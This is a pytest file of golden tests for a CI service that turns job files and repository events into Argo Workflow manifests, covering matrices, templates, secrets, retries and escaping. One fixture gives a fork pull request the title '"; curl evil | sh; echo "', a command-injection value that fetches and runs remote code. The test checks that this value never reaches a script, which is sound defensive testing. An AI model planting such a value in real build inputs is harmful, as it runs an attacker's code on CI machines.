"""Golden tests: job files + events → the exact Workflow manifests, all valid.

Regenerate after an intended change with ``FORGEFLOW_UPDATE_GOLDEN=1 make unit`` and review the diff.
"""

from __future__ import annotations

import dataclasses
import io
import os
import subprocess
from pathlib import Path

import pytest
import yaml

from service.argo.validation import validate_manifest
from service.compiler import DRIVER, compile_workflow
from service.compiler.escape import MARK, escape, unescape
from service.events import Event, EventKind, PullRequest, Repository
from service.jobs.loader import load_job_file
from service.jobs.matcher import match_jobs
from service.jobs.plan import PlanOptions, bind_run, label_value, plan_workflow, task_name
from service.jobs.templates import TemplateDocument, first_of, settings_source

GOLDEN = Path(__file__).with_name("golden")
REPO = Repository(
    "octo", "hello", "https://github.com/octo/hello.git", "https://github.com/octo/hello", "main"
)
FORK = Repository("mallory", "hello", "https://github.com/mallory/hello.git")
SHA = "0123456789abcdef0123456789abcdef01234567"
OPTIONS = PlanOptions(
    namespace="ci",
    service_account="forgeflow-workflow",
    default_image="registry.fedoraproject.org/fedora:41",
    default_timeout_seconds=1800,
    ttl_seconds=86400,
    secrets=(("pypi-token", ("push", "tag")), ("registry-credentials", ("push", "tag"))),
    cluster_workflow_templates=("announce",),
)
RUN_URL = "https://forgeflow.example/runs/42"

PR = PullRequest(
    8,
    title="Speed up {{ .Values }} rendering",
    author="alice",
    source_branch="fast",
    target_branch="main",
    source_repo=REPO,
    base_sha="f" * 40,
    head_sha=SHA,
    labels=("ci/full",),
)
EVENTS = {
    "push": Event("github", EventKind.PUSH, REPO, SHA, ref="refs/heads/main", branch="main", sender="alice"),
    "pr": Event(
        "github",
        EventKind.PULL_REQUEST,
        REPO,
        SHA,
        action="synchronize",
        ref="refs/pull/8/head",
        branch="fast",
        sender="alice",
        pull_request=PR,
    ),
    "tag": Event("github", EventKind.TAG, REPO, SHA, ref="refs/tags/v1.4.0", tag="v1.4.0", sender="alice"),
    "fork-pr": Event(
        "github",
        EventKind.PULL_REQUEST,
        REPO,
        SHA,
        action="opened",
        ref="refs/pull/7/head",
        branch="feature",
        sender="mallory",
        pull_request=PullRequest(
            7,
            title='"; curl evil | sh; echo "',
            author="mallory",
            source_branch="feature",
            target_branch="main",
            source_repo=FORK,
            fork=True,
        ),
    ),
}

CASES = {
    "v1-basic": (
        "push",
        """\
version: 1
defaults: {image: "quay.io/example/builder:1", timeout: 20m, env: {LANG: C.UTF-8}}
jobs:
  lint:
    steps: [{name: lint, run: make lint}]
  unit_tests:
    needs: [lint]
    timeout: 45m
    env: {PYTEST_ADDOPTS: "-q"}
    steps: ["pip install -e .", {name: test, run: pytest}]
  pr-only:
    on: [pull_request]
    steps: ["true"]
""",
    ),
    "v1-fork-pr": (
        "fork-pr",
        """\
version: 1
jobs:
  build:
    on: [pull_request]
    steps: [make]
""",
    ),
    # a matrix with include/exclude, needs on it, conditions, fail-fast off and max-parallel
    "matrix-needs-if": (
        "pr",
        """\
version: 1
defaults: {timeout: 10m}
concurrency: {group: "pr-${{ event.pull_request.number }}", cancel-in-progress: true}
jobs:
  lint:
    steps: [make lint]
  tests:
    needs: [lint]
    matrix:
      python: ["3.11", "3.12"]
      os: [fedora-41, ubuntu-24.04]
      exclude: [{python: "3.11", os: ubuntu-24.04}]
      include: [{python: "3.13", os: fedora-41, experimental: true}]
    max-parallel: 2
    image: "quay.io/example/python:${{ matrix.python }}-${{ matrix.os }}"
    env: {PYTHON: "${{ matrix.python }}", EXPERIMENTAL: "${{ matrix.experimental }}"}
    steps: [{name: "pytest on ${{ matrix.python }}", run: "tox -e py${{ matrix.python }}"}]
  docs:
    matrix: {format: [html, pdf]}
    fail-fast: false
    steps: [make docs]
  package:
    needs: [tests, docs]
    if: "!event.pull_request.draft && 'ci/full' in event.labels"
    steps: [make rpm]
  not-on-drafts-only:
    if: "event.pull_request.draft"
    steps: ["true"]
""",
    ),
    # templates: one from the repository (with inputs), one from the service config
    "templates": (
        "push",
        """\
version: 1
jobs:
  unit:
    uses: python
    with: {python: "3.12"}
    env: {EXTRA: "1"}
  integration:
    uses: python
    needs: [unit]
    steps: [make integration]
  audit:
    uses: org-audit
""",
    ),
    # raw Argo templates, with arguments from the event
    "raw-argo": (
        "push",
        """\
version: 1
jobs:
  build:
    steps: [make]
  smoke:
    needs: [build]
    arguments: {revision: "${{ event.sha }}"}
    argo:
      entrypoint: smoke
      templates:
        - name: smoke
          inputs: {parameters: [{name: revision}]}
          dag:
            tasks:
              - {name: prepare, template: prepare}
              - {name: check, template: check, dependencies: [prepare],
                 arguments: {parameters: [{name: revision, value: "{{inputs.parameters.revision}}"}]}}
        - name: prepare
          container: {image: "quay.io/example/tools:1", command: [prepare]}
        - name: check
          inputs: {parameters: [{name: revision}]}
          container:
            image: "quay.io/example/tools:1"
            command: [check]
            env: [{name: REVISION, value: "{{inputs.parameters.revision}}"}]
""",
    ),
    # a job that runs an Argo WorkflowTemplate, its arguments from the tag
    "workflow-template": (
        "tag",
        """\
version: 1
jobs:
  release:
    on: {tag: ["v*"]}
    workflowTemplate: {name: release-pipeline, template: publish}
    arguments: {version: "${{ event.tag }}", repository: "${{ event.repository.full_name }}"}
  announce:
    on: {tag: ["v*"]}
    needs: [release]
    workflowTemplate: {name: announce, cluster-scope: true}
""",
    ),
    # secrets, resources, retries, artifacts, timeouts
    "runtime-options": (
        "push",
        """\
version: 1
defaults: {retries: 1, resources: {cpu: 500m, memory: 1Gi}}
jobs:
  build:
    timeout: 20m
    retries: {limit: 3, backoff: 30s, factor: 3, max-backoff: 2m, policy: OnError}
    resources: {requests: {cpu: 2, memory: 4Gi}, limits: {memory: 8Gi}}
    artifacts: [dist, {name: coverage, path: reports/coverage.xml}]
    steps: [make dist]
  publish:
    needs: [build]
    secrets: [pypi-token, registry-credentials]
    steps: [make publish]
""",
    ),
    # Argo's {{ }} in scripts, names and event data (the PR title) stays what it was
    "escaping": (
        "pr",
        """\
version: 1
jobs:
  inspect:
    env: {FORMAT: "{{.Id}}"}
    steps:
      - {name: "show {{.Id}}", run: "docker inspect --format '{{.Id}}' image"}
      - run: echo plain
""",
    ),
}

REPOSITORY_TEMPLATES = {
    "python": """\
inputs:
  python: {default: "3.11"}
image: "quay.io/example/python:${{ inputs.python }}"
env: {PIP_NO_CACHE_DIR: "1"}
timeout: 15m
steps: ["pip install -e .", "pytest"]
""",
}
SETTINGS_TEMPLATES = {
    "org-audit": {"image": "quay.io/example/audit:2", "steps": [{"name": "audit", "run": "audit ."}]}
}
TEMPLATES = first_of(
    lambda name: (
        TemplateDocument(f".forgeflow/templates/{name}.yaml", text=REPOSITORY_TEMPLATES[name])
        if name in REPOSITORY_TEMPLATES
        else None
    ),
    settings_source(SETTINGS_TEMPLATES),
)


def planned(case: str):
    event_name, text = CASES[case]
    event = EVENTS[event_name]
    job_file = load_job_file(text, templates=TEMPLATES)
    return bind_run(plan_workflow(event, job_file, match_jobs(event, job_file), OPTIONS), 42, RUN_URL)


def compiled(case: str) -> dict:
    return compile_workflow(planned(case))


def templates_of(manifest: dict) -> dict[str, dict]:
    return {t["name"]: t for t in manifest["spec"]["templates"]}


@pytest.mark.parametrize("case", sorted(CASES))
def test_golden_manifest(case: str):
    manifest = compiled(case)
    validate_manifest(manifest)
    path = GOLDEN / f"{case}.yaml"
    text = yaml.safe_dump(manifest, sort_keys=False, width=1000)
    if os.environ.get("FORGEFLOW_UPDATE_GOLDEN") == "1":
        path.write_text(text, encoding="utf-8")
    assert path.exists(), f"{path} is missing: run with FORGEFLOW_UPDATE_GOLDEN=1 once and review it"
    assert yaml.safe_load(path.read_text(encoding="utf-8")) == manifest


def test_event_data_never_reaches_a_script():
    manifest = compiled("v1-fork-pr")
    template = manifest["spec"]["templates"][1]
    title = EVENTS["fork-pr"].pull_request.title  # type: ignore[union-attr]
    assert all(title not in arg for arg in template["container"]["args"])
    assert {"name": "FORGEFLOW_PR_TITLE", "value": title} in template["container"]["env"]
    assert template["container"]["args"][0] == DRIVER


def test_fork_source_is_the_fork_at_the_exact_commit():
    manifest = compiled("v1-fork-pr")
    git = manifest["spec"]["templates"][1]["inputs"]["artifacts"][0]["git"]
    assert git == {"repo": FORK.clone_url, "revision": SHA}


def test_needs_become_dependencies_and_names_are_deterministic():
    first, second = compiled("v1-basic"), compiled("v1-basic")
    assert first == second
    assert first["metadata"]["name"] == "forgeflow-42-0123456"
    tasks = {t["name"]: t for t in first["spec"]["templates"][0]["dag"]["tasks"]}
    assert set(tasks) == {"lint", "unit-tests"}
    assert tasks["unit-tests"]["dependencies"] == ["lint"]
    # the deadline covers the longest chain (20m + 45m) plus slack
    assert first["spec"]["activeDeadlineSeconds"] == 20 * 60 + 45 * 60 + 600


def test_names_and_labels_are_kubernetes_safe():
    taken: set[str] = set()
    assert task_name("Unit Tests!", taken) == "unit-tests"
    assert task_name("unit_tests", taken) == "unit-tests-2"
    value = label_value("a-very-long-group/with-subgroups/and-a-rather-long-project-name-too")
    assert len(value) <= 63 and value[0].isalnum() and value[-1].isalnum()


def test_a_matrix_job_is_a_nested_dag_with_its_own_fail_fast():
    manifest = compiled("matrix-needs-if")
    templates = templates_of(manifest)
    main = {t["name"]: t for t in templates["main"]["dag"]["tasks"]}
    assert templates["main"]["dag"]["failFast"] is False
    assert set(main) == {"lint", "tests", "docs", "package"}  # "not-on-drafts-only": if is false
    assert main["tests"] == {"name": "tests", "template": "tests", "dependencies": ["lint"]}
    assert main["package"]["dependencies"] == ["tests", "docs"]
    tests = templates["tests"]
    assert tests["dag"]["failFast"] is True and tests["parallelism"] == 2
    assert [t["name"] for t in tests["dag"]["tasks"]] == [
        "3-11-fedora-41",
        "3-12-fedora-41",
        "3-12-ubuntu-24-04",
        "3-13-fedora-41-true",
    ]
    assert templates["docs"]["dag"]["failFast"] is False and "parallelism" not in templates["docs"]
    cell = templates["tests-3-13-fedora-41-true"]
    assert cell["container"]["image"] == "quay.io/example/python:3.13-fedora-41"
    env = {e["name"]: e["value"] for e in cell["container"]["env"]}
    assert env["PYTHON"] == "3.13" and env["EXPERIMENTAL"] == "true"
    assert env["FORGEFLOW_CONTEXT"] == "forgeflow/tests (python=3.13, os=fedora-41, experimental=true)"
    assert cell["container"]["args"][2:] == ["pytest on 3.13", "tox -e py3.13"]
    other = {e["name"]: e["value"] for e in templates["tests-3-11-fedora-41"]["container"]["env"]}
    assert other["EXPERIMENTAL"] == ""  # a key only some cells have reads as "" in the others
    # the deadline: lint, then two waves of the matrix (max-parallel 2 of 4 cells), then package
    assert manifest["spec"]["activeDeadlineSeconds"] == 600 + 2 * 600 + 600 + 600


def test_matrix_cells_are_their_own_tasks_and_statuses():
    plan = planned("matrix-needs-if")
    contexts = {t.task: t.context for t in plan.tasks}
    assert contexts["tests.3-12-ubuntu-24-04"] == "forgeflow/tests (python=3.12, os=ubuntu-24.04)"
    assert contexts["docs.pdf"] == "forgeflow/docs (format=pdf)"
    assert contexts["lint"] == "forgeflow/lint"
    assert len(plan.tasks) == 1 + 4 + 2 + 1
    assert (plan.concurrency_group, plan.cancel_in_progress) == ("pr-8", True)


def test_templates_fill_in_inputs_and_jobs_override_them():
    templates = templates_of(compiled("templates"))
    unit, integration, audit = templates["unit"], templates["integration"], templates["audit"]
    assert unit["container"]["image"] == "quay.io/example/python:3.12"
    assert integration["container"]["image"] == "quay.io/example/python:3.11"  # the input's default
    assert unit["activeDeadlineSeconds"] == 900
    assert unit["container"]["args"][2:] == ["pip install -e .", "pip install -e .", "pytest", "pytest"]
    assert integration["container"]["args"][2:] == ["make integration", "make integration"]
    env = {e["name"]: e["value"] for e in unit["container"]["env"]}
    assert env["PIP_NO_CACHE_DIR"] == "1" and env["EXTRA"] == "1"  # env merges
    assert audit["container"]["image"] == "quay.io/example/audit:2"


def test_raw_argo_templates_are_prefixed_and_referenced():
    manifest = compiled("raw-argo")
    templates = templates_of(manifest)
    main = {t["name"]: t for t in templates["main"]["dag"]["tasks"]}
    assert main["smoke"] == {
        "name": "smoke",
        "template": "smoke-smoke",
        "dependencies": ["build"],
        "arguments": {"parameters": [{"name": "revision", "value": SHA}]},
    }
    inner = {t["name"]: t for t in templates["smoke-smoke"]["dag"]["tasks"]}
    assert inner["prepare"]["template"] == "smoke-prepare" and inner["check"]["template"] == "smoke-check"
    assert templates["smoke-check"]["container"]["command"] == ["check"]
    assert templates["smoke-check"]["container"]["env"] == [
        {"name": "REVISION", "value": "{{inputs.parameters.revision}}"}
    ]


def test_workflow_template_jobs_are_template_ref_tasks():
    manifest = compiled("workflow-template")
    tasks = manifest["spec"]["templates"][0]["dag"]["tasks"]
    assert tasks == [
        {
            "name": "release",
            "templateRef": {"name": "release-pipeline", "template": "publish"},
            "arguments": {
                "parameters": [
                    {"name": "version", "value": "v1.4.0"},
                    {"name": "repository", "value": "octo/hello"},
                ]
            },
        },
        {
            "name": "announce",
            "templateRef": {"name": "announce", "template": "main", "clusterScope": True},
            "dependencies": ["release"],
        },
    ]
    assert len(manifest["spec"]["templates"]) == 1


def test_runtime_options():
    templates = templates_of(compiled("runtime-options"))
    build, publish = templates["build"], templates["publish"]
    assert build["retryStrategy"] == {
        "limit": 3,
        "retryPolicy": "OnError",
        "backoff": {"duration": "30s", "factor": 3, "cap": "120s"},
    }
    assert publish["retryStrategy"]["limit"] == 1  # from defaults
    assert build["container"]["resources"] == {
        "requests": {"cpu": "2", "memory": "4Gi"},
        "limits": {"memory": "8Gi"},
    }
    assert publish["container"]["resources"] == {"requests": {"cpu": "500m", "memory": "1Gi"}}
    gone_with_the_workflow = {"strategy": "OnWorkflowDeletion"}
    assert build["outputs"]["artifacts"] == [
        {
            "name": "dist",
            "path": "/workspace/source/dist",
            "optional": True,
            "artifactGC": gone_with_the_workflow,
        },
        {
            "name": "coverage",
            "path": "/workspace/source/reports/coverage.xml",
            "optional": True,
            "artifactGC": gone_with_the_workflow,
        },
    ]
    assert publish["container"]["envFrom"] == [
        {"secretRef": {"name": "pypi-token"}},
        {"secretRef": {"name": "registry-credentials"}},
    ]
    assert "envFrom" not in build["container"]


def test_no_double_brace_reaches_argo_where_forgeflow_passes_text_through():
    manifest = compiled("escaping")
    template = templates_of(manifest)["inspect"]
    container = template["container"]
    assert not any("{{" in arg for arg in container["args"])
    assert not any("{{" in e["value"] for e in container["env"])
    name, script = container["args"][2:4]
    assert name.startswith(MARK) and unescape(name[len(MARK) :]) == "show {{.Id}}"
    assert unescape(script[len(MARK) :]) == "docker inspect --format '{{.Id}}' image"
    assert container["args"][4:] == ["echo plain", "echo plain"]  # the common case stays readable
    env = {e["name"]: e["value"] for e in container["env"]}
    assert env["FORGEFLOW_ESCAPED_ENV"] == "FORGEFLOW_PR_TITLE FORMAT"
    assert unescape(env["FORGEFLOW_PR_TITLE"]) == PR.title


@pytest.mark.parametrize("text", ["{{", "{{{x}}}", "a\\{{b}}\\", "\\0173{{", "%s {{.Id}} \\n", "{{}}\n\n"])
def test_escape_round_trips_through_printf(text: str):
    escaped = escape(text)
    assert "{{" not in escaped and unescape(escaped) == text
    printed = subprocess.run(
        ["sh", "-c", "v=$(printf '%bx' \"$1\"); printf '%s' \"${v%x}\"", "sh", escaped],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert printed == text


def test_escaped_text_runs_exactly_as_written(tmp_path: Path):
    """The compiled escaping case, executed: the step sees the script, names and env as written."""
    from service.executors.local.executor import LocalExecutor, LocalExecutorConfig
    from tests.support.gitrepo import GitRepo

    repo = GitRepo(tmp_path, "src")
    sha = repo.commit({"README": "hello\n"})
    script = (
        "test \"$FORMAT\" = '{''{.Id}}'\n"
        "test \"$FORGEFLOW_PR_TITLE\" = 'Speed up {''{ .Values }} rendering'\n"
        "printf '%s\\n' 'literal {{.Id}} and \\\\0173 and %s'\n"
    )
    local = dataclasses.replace(REPO, clone_url=repo.url)
    event = dataclasses.replace(
        EVENTS["pr"], sha=sha, repository=local, pull_request=dataclasses.replace(PR, source_repo=local)
    )
    document = {
        "version": 1,
        "jobs": {
            "inspect": {"env": {"FORMAT": "{{.Id}}"}, "steps": [{"name": "show {{.Id}}", "run": script}]}
        },
    }
    job_file = load_job_file(yaml.safe_dump(document))
    plan = bind_run(plan_workflow(event, job_file, match_jobs(event, job_file), OPTIONS), 7, RUN_URL)
    manifest = compile_workflow(plan)
    validate_manifest(manifest)
    output = io.StringIO()
    executor = LocalExecutor(LocalExecutorConfig(data_dir=tmp_path / "data", detach=False))
    final = executor.run_foreground(manifest, output)
    log = output.getvalue()
    assert final["status"]["phase"] == "Succeeded", log
    assert "[inspect] ==> show {{.Id}}" in log
    assert "[inspect] literal {{.Id}} and \\\\0173 and %s" in log
